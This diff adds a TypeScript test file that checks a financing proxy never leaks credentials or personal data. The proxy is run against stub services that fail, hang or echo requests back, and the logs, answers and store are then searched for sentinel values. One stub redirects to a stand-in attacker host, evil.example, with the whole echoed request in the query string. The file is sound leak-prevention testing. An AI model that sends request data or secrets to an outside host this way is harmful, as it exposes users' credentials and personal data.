@@ -1,0 +1,181 @@
+/**
+ * Credentials and personal data are for the service alone. Every operation is asked with sentinels in all fields,
+ * before a service that works, refuses, echoes whatever it was sent, breaks and hangs; then everything that logs,
+ * answers and the store hold is searched. Only an answer's link is kept, since a replay needs it.
+ */
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { operationNames, operations } from '../../src/contract/index.js';
+import type { FinancingProxyOptions } from '../../src/proxy/index.js';
+import { createMemoryStore } from '../../src/proxy/stores/memory-store.js';
+import type { Store } from '../../src/proxy/stores/store.js';
+import { samples } from '../support/samples.js';
+import { assertNoSentinel } from '../support/sentinels.js';
+import {
+  failToConnect,
+  hang,
+  respondPerContract,
+  type ReceivedCall,
+  type Respond,
+} from '../support/service-stub.js';
+import { createTestProxy, shop } from '../support/test-proxy.js';
+import {
+  asks,
+  credentials,
+  customer,
+  linkSecrets,
+  personal,
+  purchaseToken,
+  idempotencyKey,
+  secrets,
+  sent,
+} from './secrets.js';
+
+function succeed(call: ReceivedCall): Response {
+  const answer = samples[call.operation].answer as object;
+  if (call.operation === 'estimatePayments') return respondPerContract(call);
+  const { url, token } = linkSecrets;
+  return Response.json({ ...answer, url, shortToken: token, longToken: token });
+}
+
+/** All that a service was sent, as a careless one would repeat it. */
+function echo({ headers, path, body }: ReceivedCall): string {
+  return JSON.stringify({ headers: Object.fromEntries(headers), path, body });
+}
+
+const scenarios: Record<string, Respond> = {
+  works: succeed,
+  'is not there': failToConnect('ECONNREFUSED'),
+  'breaks the connection': failToConnect('ECONNRESET'),
+  hangs: hang,
+  'answers with a page that repeats the request': (call) => new Response(`<html>${echo(call)}`),
+  'answers with JSON that repeats the request': (call) => Response.json({ url: echo(call) }),
+  'fails and repeats the request': (call) =>
+    Response.json({ message: echo(call), error: echo(call) }, { status: 500 }),
+  'redirects to an address that repeats the request': (call) =>
+    new Response(echo(call), {
+      status: 307,
+      headers: { location: `https://evil.example/?${encodeURIComponent(echo(call))}` },
+    }),
+  'fails with an error that repeats the request': (call) => {
+    throw Object.assign(new Error(echo(call)), { code: echo(call), cause: echo(call) });
+  },
+};
+for (const status of [400, 401, 403, 404, 409, 422, 429, 500, 503]) {
+  scenarios[`answers ${status} as the contract says, and goes on`] = ({ operation, ...call }) => {
+    const declared = Object.values(operations[operation].errors).find((e) => e.status === status);
+    const message = `${declared?.message ?? 'No'}: ${echo({ operation, ...call })}`;
+    const headers = { 'retry-after': secrets.svcKey, 'x-debug': encodeURIComponent(message) };
+    return Response.json({ message }, { status, headers });
+  };
+}
+
+/** A store that keeps a record of everything it was ever given. */
+function recording(record: string[]): Store {
+  const store = createMemoryStore();
+  const noted =
+    <Args extends unknown[], Result>(operation: (...args: Args) => Result) =>
+    (...args: Args): Result => {
+      record.push(JSON.stringify(args));
+      return operation(...args);
+    };
+  return {
+    get: noted(store.get),
+    set: noted(store.set),
+    claim: noted(store.claim),
+    delete: noted(store.delete),
+    count: noted(store.count),
+    close: store.close,
+  };
+}
+
+/** Asks every operation twice, as a retry does, and once in a way that is refused. */
+async function run(respond: Respond, options: Partial<FinancingProxyOptions> = {}) {
+  const stored: string[] = [];
+  const { adminToken, ...others } = secrets;
+  const proxy = createTestProxy(
+    {
+      ...others,
+      adminToken,
+      sms: true,
+      trustPageAmount: false,
+      timeout: 20,
+      linkTimeout: 20,
+      store: recording(stored),
+      ...options,
+    },
+    respond,
+  );
+  const headers = {
+    origin: shop,
+    'idempotency-key': idempotencyKey,
+    'financing-purchase': purchaseToken,
+    'x-forwarded-for': '203.0.113.77',
+  };
+  const answers: string[] = [];
+  for (const operation of operationNames) {
+    const ask = asks[operation];
+    const authorization =
+      operations[operation].credentials.length > 1 ? { authorization: `Bearer ${adminToken}` } : {};
+    const given = { ...ask, headers: { ...headers, ...authorization } };
+    const refused = { ...given, raw: JSON.stringify({ a: ask.body }) };
+    const isRead = operations[operation].method === 'GET';
+    for (const each of [given, given, isRead ? given : refused]) {
+      const answer = await proxy.ask(operation, each);
+      answers.push(`${JSON.stringify([...answer.headers])} ${answer.text}`);
+    }
+  }
+  return { ...proxy, answers, stored };
+}
+
+function assertSecret({ answers, log, stored }: Awaited<ReturnType<typeof run>>): void {
+  for (const text of [...answers, ...stored]) assertNoSentinel(text, { ...secrets, ...personal });
+  for (const entry of log) {
+    assertNoSentinel(JSON.stringify(entry), { ...secrets, ...personal, ...linkSecrets });
+  }
+}
+
+const sentence = 'A01 A17 logs, answers and the store hold no credentials and no personal data';
+
+for (const [what, respond] of Object.entries(scenarios)) {
+  describe(`Before a service that ${what}`, () => {
+    it(sentence, async () => assertSecret(await run(respond)));
+  });
+}
+
+describe('With functions of the integrator that fail and repeat the request', () => {
+  const fail = (request: Request, body?: unknown): never => {
+    throw new Error(JSON.stringify([...request.headers, body, request.url, secrets]));
+  };
+  for (const options of [{ verifyHuman: fail }, { resolvePurchase: fail }, { authorize: fail }]) {
+    it(`${sentence} (${Object.keys(options).join()})`, async () => {
+      const changes = { ...options, purchaseSecret: undefined, adminToken: undefined };
+      assertSecret(await run(succeed, { authorize: () => true, ...changes }));
+    });
+  }
+});
+
+describe('The search for sentinels', () => {
+  it('A01 A17 looks for what the service does receive', async () => {
+    const { service, stored } = await run(succeed);
+    const received = service.calls.map(({ headers, path, body }) =>
+      JSON.stringify([[...headers], decodeURIComponent(path.replaceAll('+', ' ')), body]),
+    );
+    for (const sentinel of Object.values({ ...credentials, ...sent })) {
+      assert.throws(() => assertNoSentinel(received.join(), { sentinel }), sentinel);
+    }
+    assert.throws(() => assertNoSentinel(stored.join(), linkSecrets), 'kept answers have links');
+  });
+
+  for (const encoding of ['base64', 'base64url', 'hex', 'utf8'] as const) {
+    it(`finds one in ${encoding}, wherever it begins`, () => {
+      for (const before of ['', 'a', 'ab', 'abc']) {
+        const text = Buffer.from(`${before}${customer.firstName}, and more`).toString(encoding);
+        assert.throws(
+          () => assertNoSentinel(text, { firstName: customer.firstName }),
+          /firstName is there/,
+        );
+      }
+    });
+  }
+});
